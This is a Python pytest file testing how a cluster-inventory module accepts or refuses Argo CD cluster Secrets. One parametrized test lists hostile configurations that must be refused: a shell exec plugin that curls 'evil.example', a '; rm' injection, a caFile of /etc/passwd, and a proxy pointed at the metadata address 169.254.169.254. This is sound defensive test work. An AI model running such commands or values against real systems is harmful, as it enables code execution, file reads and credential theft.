"""Argo CD's Secrets of clusters become members, or are refused for a reason that says what to do."""

from __future__ import annotations

from typing import Any

import pytest

from modelfleet.core.inventory import argocd
from modelfleet.core.inventory.member import (
    BearerToken,
    ClientCertificate,
    Entra,
    Hub,
    Member,
    Origin,
    Refusal,
    Source,
)
from tests.unit.inventory.descriptions import (
    AKS,
    CA,
    CA_PEM,
    CERT,
    CLIENT,
    KEY,
    KEY_PEM,
    REGION,
    SERVER,
    TENANT,
    TLS,
    TOKEN,
    argocd_secret,
    b64,
)

AZURE_VARIABLES = {"AAD_LOGIN_METHOD": "workloadidentity", "AZURE_CLIENT_ID": CLIENT, "AZURE_TENANT_ID": TENANT}


def member(**secret: Any) -> Member:
    found = argocd.read(argocd_secret(**secret))
    assert isinstance(found, Member), found
    return found


def refusal(**secret: Any) -> Refusal:
    found = argocd.read(argocd_secret(**secret))
    assert isinstance(found, Refusal), found
    return found


def plugin(command: str, *args: object, **env: object) -> dict[str, Any]:
    return {"tlsClientConfig": TLS, "execProviderConfig": {"command": command, "args": list(args), "env": env}}


def test_a_secret_with_a_token_becomes_a_member() -> None:
    found = member(labels=REGION)
    assert found.name == "west"
    assert found.origin == Origin(Source.ARGOCD, "argocd", "cluster-west")
    assert (found.region, found.server, found.auth) == ("westeurope", SERVER, BearerToken(TOKEN))
    assert CA_PEM.split(b"\n")[1] in b64(found.ca).encode()


def test_a_client_certificate_is_taken_with_its_key() -> None:
    found = member(config={"tlsClientConfig": {**TLS, "certData": CERT, "keyData": KEY}})
    assert isinstance(found.auth, ClientCertificate)
    assert found.auth.key == KEY_PEM.decode().strip()


def test_everything_else_that_leads_there_is_taken() -> None:
    tls = {**TLS, "serverName": "api.west.example", "insecure": False}
    found = member(config={"bearerToken": TOKEN, "tlsClientConfig": tls, "proxyUrl": "http://proxy.example:3128"})
    assert (found.server_name, found.proxy) == ("api.west.example", "http://proxy.example:3128")


def test_without_a_certificate_authority_those_of_the_system_are_trusted() -> None:
    assert member(config={"bearerToken": TOKEN}).ca == b""


def test_the_cluster_that_argo_cd_runs_in_is_the_hub_itself() -> None:
    found = member(server="https://kubernetes.default.svc", config={"tlsClientConfig": {"insecure": False}})
    assert found.auth == Hub()


def test_a_secret_without_a_name_is_called_as_itself() -> None:
    assert member(name="").name == "cluster-west"


def test_aks_with_workload_identity_is_understood_and_not_run() -> None:
    found = member(config=plugin("argocd-k8s-auth", "azure", **AZURE_VARIABLES))
    assert found.auth == Entra(CLIENT, TENANT, AKS)


@pytest.mark.parametrize("method", ["spn", "msi", "devicecode", "azurecli"])
def test_other_logins_of_aks_are_refused(method: str) -> None:
    config = plugin("argocd-k8s-auth", "azure", **AZURE_VARIABLES | {"AAD_LOGIN_METHOD": method})
    assert refusal(config=config).reason == "ExecRefused"


def test_what_argo_cd_leaves_alone_is_left_alone() -> None:
    found = refusal(annotations={"argocd.argoproj.io/skip-reconcile": "true"})
    assert (found.reason, found.name) == ("Skipped", "west")
    assert member(annotations={"argocd.argoproj.io/skip-reconcile": "false"})


@pytest.mark.parametrize(
    ("config", "reason"),
    [
        (plugin("/bin/sh", "-c", "curl https://evil.example"), "ExecRefused"),
        (plugin("argocd-k8s-auth", "aws", "--cluster-name", "x"), "ExecRefused"),
        (plugin("argocd-k8s-auth", "azure", "; rm"), "ExecRefused"),
        ({"bearerToken": TOKEN, "tlsClientConfig": {"insecure": True}}, "InsecureRefused"),
        ({"username": "admin", "password": TOKEN, "tlsClientConfig": TLS}, "PasswordRefused"),
        ({"awsAuthConfig": {"clusterName": "x"}, "tlsClientConfig": TLS}, "AwsRefused"),
        ({"bearerTokenFile": "/var/run/token", "tlsClientConfig": TLS}, "FileRefused"),
        ({"bearerToken": TOKEN, "tlsClientConfig": {"caFile": "/etc/passwd"}}, "FileRefused"),
        ({"tlsClientConfig": TLS}, "CredentialsMissing"),
        ({"bearerToken": TOKEN, **plugin("argocd-k8s-auth", "azure", **AZURE_VARIABLES)}, "CredentialsAmbiguous"),
        ({"bearerToken": f"{TOKEN}\n", "tlsClientConfig": TLS}, "TokenInvalid"),
        ({"bearerToken": [TOKEN], "tlsClientConfig": TLS}, "FieldInvalid"),
        ({"bearerToken": TOKEN, "tlsClientConfig": [TLS]}, "FieldInvalid"),
        ({"bearerToken": TOKEN, "tlsClientConfig": {"caData": "%%"}}, "PayloadInvalid"),
        ({"bearerToken": TOKEN, "tlsClientConfig": {"caData": b64("no certificate")}}, "CertificateInvalid"),
        ({"bearerToken": TOKEN, "tlsClientConfig": {"caData": KEY}}, "CertificateInvalid"),
        ({"tlsClientConfig": {**TLS, "certData": CERT}}, "KeyInvalid"),
        ({"tlsClientConfig": {**TLS, "certData": CERT, "keyData": CA}}, "KeyInvalid"),
        ({"tlsClientConfig": {**TLS, "keyData": KEY}}, "CertificateInvalid"),
        ({"bearerToken": TOKEN, "tlsClientConfig": {**TLS, "serverName": "a b"}}, "ServerNameInvalid"),
        ({"bearerToken": TOKEN, "tlsClientConfig": TLS, "proxyUrl": "socks5://proxy"}, "ProxyInvalid"),
        ({"bearerToken": TOKEN, "tlsClientConfig": TLS, "proxyUrl": "http://169.254.169.254"}, "AddressRefused"),
        ([], "PayloadInvalid"),
    ],
)
def test_what_cannot_be_used_is_refused_for_its_reason(config: object, reason: str) -> None:
    found = refusal(config=config)
    assert found.reason == reason
    assert TOKEN not in repr(found)


def test_a_configuration_that_is_no_json_is_refused() -> None:
    assert refusal(raw=b"{" + TOKEN.encode()).reason == "PayloadInvalid"


def test_a_name_that_does_not_fit_in_a_line_is_refused_under_that_of_the_secret() -> None:
    found = refusal(name="west\x1b[2J")
    assert (found.reason, found.name) == ("NameInvalid", "cluster-west")


def test_a_secret_without_data_is_refused() -> None:
    found = argocd.read({"metadata": {"namespace": "argocd", "name": "empty"}})
    assert isinstance(found, Refusal)
    assert (found.reason, found.name) == ("ServerMissing", "empty")


def test_no_representation_shows_what_opens_something() -> None:
    shown = repr(member()) + repr(member(config={"tlsClientConfig": {**TLS, "certData": CERT, "keyData": KEY}}))
    assert TOKEN not in shown
    assert "PRIVATE KEY" not in shown
    assert CA not in shown
